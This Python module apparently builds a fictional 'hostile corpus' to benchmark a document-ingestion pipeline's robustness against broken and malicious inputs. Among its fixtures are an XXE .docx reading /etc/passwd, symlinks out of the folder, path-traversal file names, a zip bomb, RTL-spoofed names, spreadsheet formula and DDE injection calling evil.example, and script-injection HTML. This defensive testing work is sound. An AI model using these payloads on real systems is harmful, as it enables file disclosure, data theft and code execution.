"""A hostile corpus: every kind of file that has broken (or could break) the pipeline, all FICTIONAL.

:func:`build` writes, into a raw folder, one group of files per hostile class (empty,
truncated, encrypted, scanned, zip bomb, lock files, wrong extension, UTF-16, NUL bytes,
symbolic links out of the folder, names with newlines or ``../``, 5,000 tiny files, a
200-page PDF, 20,000 paragraphs, RTL overrides, contact details in every disguise, 30 MB of
text, a 5 MB single line, junk with no narrative, a legacy .doc, PDF tables with wrapped
lines, copies, whitespace, mojibake, spreadsheet formulas ...) plus a few ordinary case
studies, and returns which files belong to which class. Everything is generated here; no
text comes from a real submission. Places are invented (Glenbrae, Westmuir) except the
councils the ordinary case studies name (Fife, Falkirk).

Used by ``benchmarks/bench_hostile.py``; run alone to write a corpus you can inspect::

    .venv/bin/python benchmarks/hostile_corpus.py /tmp/hostile_raw
"""

from __future__ import annotations

import io
import os
import random
import shutil
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

FICTION = "FICTIONAL TEST CASE - not a real submission."
SECRET = "FICTIONAL-SECRET-OUTSIDE-THE-RAW-FOLDER"
# Every disguise of a contact detail; none may reach a shared page, table or workbook.
CONTACT_FORMS = [
    "jamie.evid [at] fife dot gov dot uk",
    "riley.next\uff20falkirk.gov.uk",
    "jo (at) example (dot) org",
    "sam.sample@glenbrae.example",
    "0044 1632 960112",
    "01632/960113",
    "0044 131 496 0000",
    "0131.496.0000",
    "+44 (0)131 496 0111",
    "07700 900123",
]
CONTACT_NAMES = ["Jamie Evidenceperson", "Taylor Tablecell", "Alex Fictional"]
QUESTIONS = [
    "1 Name of SOA case study",
    "2 What was the local need addressed by this SOA case study?",
    "3 What was done - and by which partners?",
    "4 What is the evidence of the benefits for communities - or if the benefits are still to be delivered, "
    "what is the timeline for that?",
    "5 What added value has the SOA process brought to the delivery of these benefits?",
    "6 What next steps are you taking to meet this local need?",
    "Contact details of lead officer",
]
_RESULTS = ["emergency admissions fell from {a} to {b} per 1,000", "{n} young people moved into work",
            "antisocial behaviour incidents fell by {p}%", "breastfeeding rates rose from {a}% to {b}%",
            "{n} households were helped with fuel bills"]


def _sentence(rng: random.Random) -> str:
    r = rng.choice(_RESULTS).format(a=rng.randint(40, 60), b=rng.randint(10, 39), n=rng.randint(10, 900),
                                    p=rng.randint(3, 40))
    return (f"In Glenbrae the partnership worked with NHS Glenbrae and the Third Sector Interface, and "
            f"{r} between {rng.randint(2008, 2011)} and {rng.randint(2012, 2014)}.")


def _prose(rng: random.Random, n_chars: int, *, newline_every: int = 6) -> str:
    out, size, k = [], 0, 0
    while size < n_chars:
        s = _sentence(rng)
        k += 1
        s += "\n" if newline_every and k % newline_every == 0 else " "
        out.append(s)
        size += len(s)
    return "".join(out)


def _docx(build) -> bytes:
    import docx

    d = docx.Document()
    build(d)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def _case_2009(title: str, council: str, answers: list[str], contact: str):
    def build(d):
        d.add_paragraph(FICTION)
        t = d.add_table(rows=0, cols=2)
        for q, a in zip(QUESTIONS, [title, *answers, contact]):
            row = t.add_row().cells
            row[0].text, row[1].text = q, a
    return build


def _ordinary(council: str, topic: str, rng: random.Random) -> bytes:
    return _docx(_case_2009(
        f"{council} {topic} (FICTIONAL)", council,
        [f"Too few {topic} services in {council}; {_sentence(rng)}",
         f"{council} Council and NHS partners ran a joint {topic} programme. {_sentence(rng)}",
         f"Weekly attendance rose from 10 to 100 of 110 families. {_sentence(rng)}",
         "The SOA brought the partners to one table and pooled their budgets.",
         f"We will extend the {topic} programme to two more towns by March 2013."],
        f"Alex Fictional, Project Officer, {council} Council, 01632 960100"))


def _pdf(pages: list[list[str]], tables: dict[int, list[list[list[str]]]] | None = None) -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4)
    for i, lines in enumerate(pages):
        y = 800
        for line in lines:
            c.drawString(50, y, line)
            y -= 15
        for table in (tables or {}).get(i, []):
            y -= 10
            for row in table:
                height = 15 * max(len(cell) for cell in row) + 8
                for k, cell in enumerate(row):
                    c.rect(50 + k * 250, y - height, 250, height)
                    for m, line in enumerate(cell):
                        c.drawString(54 + k * 250, y - 14 - 15 * m, line)
                y -= height
        c.showPage()
    c.save()
    return buf.getvalue()


def _write(raw: Path, rel: str | bytes, data: bytes, mtime: float | None = None) -> str:
    path = os.path.join(os.fsencode(raw), rel if isinstance(rel, bytes) else os.fsencode(rel))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as fh:
        fh.write(data)
    if mtime is not None:
        os.utime(path, (mtime, mtime))
    return os.fsdecode(os.path.relpath(path, os.fsencode(raw)))


# --------------------------------------------------------------------------- the classes

def ordinary(raw: Path, rng: random.Random) -> list[str]:
    """Three ordinary case studies (Fife, Falkirk): the run must not be empty."""
    return [_write(raw, f"ordinary/{c.lower()}_{t.replace(' ', '_')}.docx", _ordinary(c, t, rng))
            for c, t in (("Fife", "family hub"), ("Falkirk", "jobs club"), ("Fife", "warm homes"))]


def empty(raw: Path, rng: random.Random) -> list[str]:
    return [_write(raw, "empty/empty.txt", b""), _write(raw, "empty/empty.docx", b"")]


def truncated(raw: Path, rng: random.Random) -> list[str]:
    docx = _ordinary("Fife", "truncated study", rng)
    pdf = _pdf([[FICTION, "A case study cut off in transit."]])
    return [_write(raw, "truncated/half.docx", docx[: len(docx) // 2]), _write(raw, "truncated/half.pdf", pdf[:300])]


def encrypted(raw: Path, rng: random.Random) -> list[str]:
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, encrypt=pdfencrypt.StandardEncryption("secret", ownerPassword="owner-secret"))
    c.drawString(50, 800, FICTION + " Encrypted.")
    c.showPage()
    c.save()
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)
    return [_write(raw, "encrypted/locked.pdf", buf.getvalue()), _write(raw, "encrypted/locked.docx", ole)]


def scanned(raw: Path, rng: random.Random) -> list[str]:
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    for _ in range(3):
        c.rect(60, 60, 400, 700, fill=1)  # a page that is only a picture
        c.showPage()
    c.save()
    return [_write(raw, "scanned/scan.pdf", buf.getvalue()),
            _write(raw, "scanned/photo.png", b"\x89PNG\r\n\x1a\n" + bytes(200))]


def zip_bomb(raw: Path, rng: random.Random) -> list[str]:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", b"\0" * (64 * 1024 * 1024))  # 64 MB of zeros -> ~64 KB
    return [_write(raw, "zip_bomb/bomb.docx", buf.getvalue())]


def lock_files(raw: Path, rng: random.Random) -> list[str]:
    return [_write(raw, "locks/~$case.docx", b"\x05lock"), _write(raw, "locks/.~lock.case.docx#", b"lock"),
            _write(raw, "locks/Thumbs.db", bytes(64)), _write(raw, "locks/.DS_Store", b"\0\0\0\1Bud1")]


def wrong_extension(raw: Path, rng: random.Random) -> list[str]:
    return [_write(raw, "wrong_ext/really_a_docx.pdf", _ordinary("Falkirk", "renamed file", rng)),
            _write(raw, "wrong_ext/really_a_pdf.txt", _pdf([[FICTION, "A PDF saved under a .txt name, "
                                                             "about a Glenbrae food bank."]])),
            _write(raw, "wrong_ext/report.exe", b"MZ" + bytes(300))]


def utf16(raw: Path, rng: random.Random) -> list[str]:
    text = f"{FICTION}\nGlenbrae befriending\n\n{_prose(rng, 1500)}"
    return [_write(raw, "utf16/with_bom.txt", text.encode("utf-16")),
            _write(raw, "utf16/no_bom.txt", text.replace("befriending", "lunch club").encode("utf-16-le"))]


def nul_bytes(raw: Path, rng: random.Random) -> list[str]:
    text = (f"{FICTION} Glenbrae repair cafe. " + _prose(rng, 2000)).encode()
    sprinkled = b"\0".join(text[i:i + 40] for i in range(0, len(text), 40))
    return [_write(raw, "nul/sprinkled.txt", sprinkled), _write(raw, "nul/one_nul.txt", text[:900] + b"\0" + text[900:])]


def symlinks_out(raw: Path, rng: random.Random) -> list[str]:
    outside = raw.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_text(f"{SECRET}\n" + _prose(rng, 600), encoding="utf-8")
    (outside / "folder").mkdir(exist_ok=True)
    links = raw / "links"
    links.mkdir()
    out = []
    for name, target in (("passwd_link.txt", "/etc/passwd"), ("outside_link.txt", outside / "secret.txt"),
                         ("outside_folder", outside / "folder"), ("dangling.docx", outside / "missing.docx"),
                         ("inside_link.docx", raw / "ordinary" / "fife_family_hub.docx")):
        os.symlink(target, links / name)
        out.append(f"links/{name}")
    return out


def odd_names(raw: Path, rng: random.Random) -> list[str]:
    text = (FICTION + " Glenbrae community garden. " + _prose(rng, 800)).encode()
    out = [_write(raw, "names/new\nline.txt", text.replace(b"garden", b"orchard")),
           _write(raw, "names/..\\..\\escape.txt", text.replace(b"garden", b"allotment")),
           _write(raw, "names/x..%2F..%2Fescape2.txt", text.replace(b"garden", b"meadow")),
           _write(raw, b"names/not-utf8-\xff\xfe.txt", text.replace(b"garden", b"park"))]
    fifo = raw / "names" / "pipe.txt"
    os.mkfifo(fifo)
    return out + ["names/pipe.txt"]


def tiny_files(raw: Path, rng: random.Random) -> list[str]:
    return [_write(raw, f"tiny/{i:04d}.txt", f"note {i}".encode()) for i in range(5000)]


def big_pdf(raw: Path, rng: random.Random) -> list[str]:
    pages = [[f"{FICTION} Page {p + 1}."] + [_sentence(rng)[:95] for _ in range(45)] for p in range(200)]
    return [_write(raw, "big/annual_report_200_pages.pdf", _pdf(pages))]


def many_paragraphs(raw: Path, rng: random.Random) -> list[str]:
    def build(d):
        d.add_paragraph(FICTION)
        for _ in range(20000):
            d.add_paragraph(_sentence(rng))
    return [_write(raw, "big/twenty_thousand_paragraphs.docx", _docx(build))]


def rtl_overrides(raw: Path, rng: random.Random) -> list[str]:
    text = (f"{FICTION}\n# Glenbrae \u202eevitaitini\u202c youth project\n\n"
            f"Heading with an isolate \u2066spoof\u2069 and an override \u202dLTR\u202c.\n\n{_prose(rng, 1200)}")
    return [_write(raw, "rtl/rtl_overrides.md", text.encode()),
            _write(raw, "rtl/invoice\u202etxt.exe", (FICTION + " Glenbrae invoice drive. " + _prose(rng, 600)).encode())]


def contact_disguises(raw: Path, rng: random.Random) -> list[str]:
    lines = [f"Contact {CONTACT_NAMES[i % len(CONTACT_NAMES)]}, Project Officer, on {form} for details."
             for i, form in enumerate(CONTACT_FORMS)]
    need = (f"Older people in Glenbrae were isolated. {_sentence(rng)} " + " ".join(lines[:5]))
    done = f"NHS Highland Taylor Tablecell {CONTACT_FORMS[3]} led the work with the council. " + " ".join(lines[5:])
    docx = _docx(_case_2009("Glenbrae Good Neighbours (FICTIONAL)", "Fife",
                            [need, done, "Isolation scores fell from 40% to 22% of members in a year.",
                             "The SOA joined up referrals.", "Recruit the next cohort by June 2013."],
                            "Jamie Evidenceperson, Project Officer, Fife Council, 01632 960113, "
                            "jamie.evid [at] fife dot gov dot uk"))
    body = "\n\n".join([FICTION, "Glenbrae volunteer drivers", *lines, _prose(rng, 800),
                        "Regards\nTaylor Tablecell\nVolunteer Coordinator\n0131.496.0000"])
    return [_write(raw, "contacts/good_neighbours.docx", docx), _write(raw, "contacts/volunteer_drivers.txt", body.encode())]


def text_30mb(raw: Path, rng: random.Random) -> list[str]:
    block = _prose(rng, 200_000)
    data = (f"{FICTION}\nGlenbrae housing annual report\n\n" + block * 160).encode()[: 30 * 1024 * 1024]
    return [_write(raw, "big/thirty_mb.txt", data)]


def single_line_5mb(raw: Path, rng: random.Random) -> list[str]:
    data = (FICTION + " " + _prose(rng, 5 * 1024 * 1024, newline_every=0)).encode()[: 5 * 1024 * 1024]
    return [_write(raw, "big/five_mb_one_line.txt", data.replace(b"\n", b" "))]


def no_narrative(raw: Path, rng: random.Random) -> list[str]:
    """Junk that once became 9-12 character submissions: XXE .docx, 50,000 nested divs, nested tables."""
    xxe = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           b'<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>')
    good = _docx(lambda d: d.add_paragraph("x"))
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, xxe if item.filename == "word/document.xml" else src.read(item.filename))
    divs = b"<html><body>" + b"<div>" * 50000 + b"deep" + b"</div>" * 50000 + b"</body></html>"

    def nested(d):
        cell = d.add_table(rows=1, cols=1).cell(0, 0)
        for _ in range(40):
            cell = cell.add_table(rows=1, cols=1).cell(0, 0)
        cell.text = "inner"
    return [_write(raw, "junk/xxe.docx", buf.getvalue()), _write(raw, "junk/nested_divs.html", divs),
            _write(raw, "junk/nested_tables.docx", _docx(nested)),
            _write(raw, "junk/whitespace.txt", " \t\n\u00a0\u3000\u2003\n\u200b\n\r\n".encode()),
            _write(raw, "junk/whitespace_utf16.txt", "   \n\n\t ".encode("utf-16"))]


def legacy_doc(raw: Path, rng: random.Random) -> list[str]:
    """A Word 97-2003 .doc on the 2009 form (made with LibreOffice: docx -> odt -> doc); skipped without it."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        return []
    with tempfile.TemporaryDirectory(prefix="hostile-doc-") as tmp:
        src = Path(tmp)
        (src / "case.docx").write_bytes(_docx(_case_2009(
            "Grangemouth Business Gateway Outreach (FICTIONAL)", "Falkirk",
            ["Small firms in Glenbrae lacked advice. " + _sentence(rng), "Falkirk Council and partners ran outreach.",
             "Business survival rose from 60% to 72% over two years.", "The SOA aligned budgets.",
             "Recruit the first cohort in June 2012."],
            "Robin Placeholder, Business Adviser, Falkirk Council, 01632 960124")))
        profile = f"-env:UserInstallation=file://{src / 'lo'}"
        for target, source in (("odt", "case.docx"), ("doc:MS Word 97", "case.odt")):
            subprocess.run([soffice, "--headless", profile, "--convert-to", target, "--outdir", str(src),
                            str(src / source)], check=True, capture_output=True, timeout=300)
        return [_write(raw, "legacy/grangemouth_outreach.doc", (src / "case.doc").read_bytes())]


def pdf_wrapped_table(raw: Path, rng: random.Random) -> list[str]:
    rows = [[["Next steps"], ["By when"]],
            [["Recruit the first cohort of", "volunteer drivers in"], ["June 2012."]],
            [["Extend the scheme to the", "villages west of Glenbrae,", "with NHS Glenbrae."], ["March", "2013."]]]
    lines = [FICTION, "Glenbrae volunteer transport", "Next steps we are taking to meet this local need:"]
    return [_write(raw, "pdf_table/wrapped_rows.pdf", _pdf([lines], {0: [rows]}))]


def copies(raw: Path, rng: random.Random) -> list[str]:
    data = _ordinary("Falkirk", "youth jobs", rng)
    when = 1_300_000_000
    return [_write(raw, "copies/falkirk_jobs (copy).docx", data, when), _write(raw, "copies/falkirk_jobs.docx", data, when),
            _write(raw, "copies/falkirk_jobs (1).docx", data, when), _write(raw, "copies/falkirk_jobs_final.docx", data, when),
            _write(raw, "copies/older_resubmission.docx", data, when - 86400 * 30)]


def mojibake(raw: Path, rng: random.Random) -> list[str]:
    # UTF-8 read as Windows-1252 and saved again as UTF-8: "Glenbrae\u2019s" becomes "Glenbraeâ€™s"
    text = f"{FICTION}\nGlenbrae\u2019s caf\u00e9 \u2013 winter 2011\n\n{_prose(rng, 1000)}"
    return [_write(raw, "mojibake/double_encoded.txt", text.encode("utf-8").decode("cp1252").encode("utf-8"))]


def formulas(raw: Path, rng: random.Random) -> list[str]:
    text = ("=HYPERLINK(\"http://evil.example/x?\"&A1, \"Glenbrae befriending\")\n\n"
            f"+cmd|' /C calc'!A0 {FICTION} Glenbrae befriending scheme.\n\n@SUM(1+1)\n\n{_prose(rng, 1500)}")
    return [_write(raw, "formulas/formula_injection.txt", text.encode())]


def markup(raw: Path, rng: random.Random) -> list[str]:
    html = (f"<html><body><h1>Glenbrae <script>alert('x')</script>food larder</h1><p>{FICTION}</p>"
            f"<p><img src=x onerror=alert(1)> {_prose(rng, 1200)}</p></body></html>")
    return [_write(raw, "markup/script.html", html.encode())]


CLASSES = {
    "ordinary case studies": ordinary,
    "empty": empty,
    "truncated": truncated,
    "encrypted": encrypted,
    "scanned": scanned,
    "zip bomb": zip_bomb,
    "lock and system files": lock_files,
    "wrong extension": wrong_extension,
    "UTF-16": utf16,
    "NUL bytes": nul_bytes,
    "symlinks out of the raw folder": symlinks_out,
    "names with newlines, ../, bad bytes; a FIFO": odd_names,
    "5,000 tiny files": tiny_files,
    "200-page PDF": big_pdf,
    "20,000 paragraphs": many_paragraphs,
    "RTL overrides": rtl_overrides,
    "contact details in every disguise": contact_disguises,
    "30 MB of text": text_30mb,
    "5 MB single line": single_line_5mb,
    "no narrative (XXE, nested divs/tables, white space)": no_narrative,
    "legacy .doc via LibreOffice": legacy_doc,
    "PDF table with wrapped lines": pdf_wrapped_table,
    "copies of one file": copies,
    "mojibake": mojibake,
    "spreadsheet formulas": formulas,
    "markup and script": markup,
}


def build(raw: str | os.PathLike, *, seed: int = 0) -> dict[str, list[str]]:
    """Write the hostile corpus into ``raw`` (created; must be empty); return class -> relative paths."""
    raw = Path(raw)
    raw.mkdir(parents=True, exist_ok=True)
    if any(raw.iterdir()):
        raise SystemExit(f"{raw} is not empty")
    rng = random.Random(seed)
    return {name: fn(raw, rng) for name, fn in CLASSES.items()}


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else tempfile.mkdtemp(prefix="hostile-")) / "raw"
    made = build(target)
    for cls, files in made.items():
        print(f"{cls}: {len(files)} file(s)")
    print(target)
